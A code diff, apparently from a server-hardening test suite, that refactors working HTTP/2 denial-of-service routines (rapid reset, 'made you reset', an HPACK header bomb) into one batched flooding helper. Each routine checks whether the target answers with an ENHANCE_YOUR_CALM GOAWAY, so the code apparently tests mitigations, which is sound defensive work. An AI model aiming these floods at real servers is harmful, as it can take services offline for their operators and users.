@@ -89,22 +89,27 @@ class Attacker:
         self.sock.close()
 
 
-def rapid_reset(a):
-    for i in range(5000):
-        sid = 2 * i + 1
-        if not a.send(frame(1, 0x5, sid, REQUEST) +
-                      frame(3, 0, sid, struct.pack(">I", 8))):
+def flood_until_goaway(a, make_frames, batches=50):
+    """Sends batches of 100 rounds, reading what comes back between them
+    (so a slow server is not mistaken for one that stopped reading), until
+    the GOAWAY arrives."""
+    sid = 1
+    for _ in range(batches):
+        batch = b"".join(make_frames(sid + 2 * k) for k in range(100))
+        sid += 200
+        if not a.send(batch, timeout=5.0) or a.goaway_code(wait=0.01) is not None:
             break
     return a.goaway_code() == ENHANCE_YOUR_CALM
+
+
+def rapid_reset(a):
+    return flood_until_goaway(a, lambda sid: frame(1, 0x5, sid, REQUEST) +
+                              frame(3, 0, sid, struct.pack(">I", 8)))
 
 
 def made_you_reset(a):
-    for i in range(5000):
-        sid = 2 * i + 1
-        if not a.send(frame(1, 0x4, sid, REQUEST) +
-                      frame(8, 0, sid, struct.pack(">I", 0))):
-            break
-    return a.goaway_code() == ENHANCE_YOUR_CALM
+    return flood_until_goaway(a, lambda sid: frame(1, 0x4, sid, REQUEST) +
+                              frame(8, 0, sid, struct.pack(">I", 0)))
 
 
 def continuation_flood(a):
@@ -149,13 +154,7 @@ def hpack_bomb(a):
     bomb = (bytes([0x82, 0x86, 0x84, 0x01, 0x09]) + b"localhost" +
             bytes([0x40, 0x06]) + b"x-bomb" + bytes([0x7F, 0xA1, 0x1E]) +
             b"b" * 4000 + b"\xbe" * 4000)
-    sid = 1
-    for _ in range(50):  # until GOAWAY, however fast tokens refill
-        batch = b"".join(frame(1, 0x5, sid + 2 * k, bomb) for k in range(100))
-        sid += 200
-        if not a.send(batch) or a.goaway_code(wait=0.01) is not None:
-            break
-    return a.goaway_code() == ENHANCE_YOUR_CALM
+    return flood_until_goaway(a, lambda sid: frame(1, 0x5, sid, bomb))
 
 
 def empty_data_flood(a):
